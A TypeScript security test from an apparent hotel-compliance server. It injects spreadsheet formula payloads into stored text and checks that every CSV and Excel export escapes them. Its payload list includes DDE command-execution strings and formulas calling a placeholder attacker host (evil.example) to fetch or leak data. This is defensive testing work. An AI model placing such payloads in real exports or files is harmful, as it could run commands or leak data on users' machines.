import { DASHBOARD_METRICS } from '@sojourn/contract/dashboards/metrics'
import { ROLES } from '@sojourn/domain'
import { REPORTS } from '../../apps/server/src/areas/reports/all-reports.ts'
import { hasFormula, readCsv } from '../../apps/server/src/areas/reports/testing/read-files.ts'
import { aGiftDeclaration } from '../../apps/server/src/test/builders/gift-declaration.ts'
import { aUser } from '../../apps/server/src/test/builders/user.ts'
import { readWorkbook } from '../../apps/server/src/test/read-workbook.ts'
import type { TestServer } from '../../apps/server/src/test/server.ts'
import { createRecords, type Records } from '../authorisation/records.ts'
import { injectTexts } from './inject-texts.ts'
import type { Outcome } from './outcome.ts'

const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
  ],
  ...[
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/c calc'!A1",
    '=IMPORTXML("http://evil.example","//a")',
  ],
  ...[
    '=WEBSERVICE("http://evil.example")',
    '-2+3+cmd|x!A0',
    '=DDE("cmd";"/c calc";"x")',
    '=1";=1+1',
    '=1\n=1',
  ],
]

const FORMULA_START = /^[=+\-@\t\r\n＝＋－＠]/
/** A program that splits CSV at semicolons or tabs would find a formula here. */
const SPLIT_FORMULA_START = /[;\t][ "]*[=+\-@＝＋－＠]/
/** A number, or the dash for a missing one. */
const NUMBER = /^([+-]?[\d.,]+|-)$/
/** An escaped formula. */
const ESCAPED = /^'[=+\-@\t\r\n＝＋－＠]/

interface Export {
  name: string
  method: 'GET' | 'POST'
  path: string
  body?: unknown
}

const inBothFormats = (name: string, path: string): Export[] =>
  ['csv', 'xlsx'].map((format) => ({
    name: `${name} as ${format}`,
    method: 'GET',
    path: `${path}${path.includes('?') ? '&' : '?'}format=${format}`,
  }))

/** Every CSV and Excel export of the server. */
const listExports = ({ companyID, siteID, reportID }: Records): Export[] => [
  ...inBothFormats('audits', '/api/Audit/Export'),
  ...inBothFormats('companies', '/api/Company/Export'),
  ...inBothFormats('people of a company', `/api/User/Company/${companyID}/Export`),
  ...inBothFormats('sites', '/api/Site/Export'),
  ...inBothFormats('people of a site', `/api/User/Site/${siteID}/Export`),
  ...ROLES.flatMap((role) => inBothFormats(`users with the role ${role}`, `/api/User/Role/${role}/Export`)),
  ...inBothFormats('groups', '/api/HotelGroup/Export'),
  ...inBothFormats('operators', '/api/TourOperator/Export'),
  ...inBothFormats('outbox', '/api/Outbox/Export'),
  ...DASHBOARD_METRICS.map((metric) => ({
    name: `metric ${metric}`,
    method: 'GET' as const,
    path: `/api/Analytics/${metric}/Export`,
  })),
  ...REPORTS.flatMap(({ path }) =>
    ['CSV', 'EXCELOPENXML'].map((format) => ({
      name: `report ${path} as ${format}`,
      method: 'POST' as const,
      path: '/api/Reporting/Export',
      body: { format, reportPath: path },
    })),
  ),
  { name: 'environmental report', method: 'GET', path: `/api/epr/Export/ANNUAL/${reportID}` },
]

const isWorkbook = (bytes: Buffer) => bytes.subarray(0, 2).toString() === 'PK'

const cellsOf = (bytes: Buffer): string[] =>
  isWorkbook(bytes)
    ? [...readWorkbook(bytes).values()].flatMap((sheet) =>
        [...sheet.values()].map(({ value }) => String(value)),
      )
    : readCsv(bytes.subarray(0, 3).toString('hex') === 'efbbbf' ? bytes.subarray(3) : bytes).flat()

/** Inserts a formula before every text in the database and checks that every export escapes it. */
export async function attackExports(server: TestServer): Promise<Outcome> {
  const records = await createRecords(server, ['Hotel'])
  await aGiftDeclaration(server.db, {
    audit_id: records.certifiedAuditID,
    has_been_bribed: true,
    items: 'A pen',
    who: 'Ines',
    value: '10',
  })
  await injectTexts(server.platform.pool, FORMULAS, 'before')
  const admin = server.withToken(await server.tokenFor(await aUser(server.db, { roles: ['Admin'] })))
  const problems: string[] = []
  const exports = listExports(records)
  let cells = 0
  let escaped = 0
  for (const { name, method, path, body } of exports) {
    const response = await admin.send(method, path, body)
    if (response.status !== 200 || !Buffer.isBuffer(response.body)) {
      problems.push(`${name} failed: ${response.status}`)
      continue
    }
    const cellTexts = cellsOf(response.body)
    cells += cellTexts.length
    escaped += cellTexts.filter((cell) => ESCAPED.test(cell)).length
    for (const cell of cellTexts)
      if (
        (FORMULA_START.test(cell) && !NUMBER.test(cell)) ||
        (!isWorkbook(response.body) && SPLIT_FORMULA_START.test(cell))
      )
        problems.push(`${name} holds ${JSON.stringify(cell.slice(0, 60))}`)
    if (isWorkbook(response.body) && hasFormula(response.body)) problems.push(`${name} contains a formula`)
  }
  if (escaped === 0) problems.push('no export contained a formula, so nothing was tested')
  return {
    attempts: `formulas in ${exports.length} exports (${escaped} of ${cells} cells escaped)`,
    problems,
  }
}
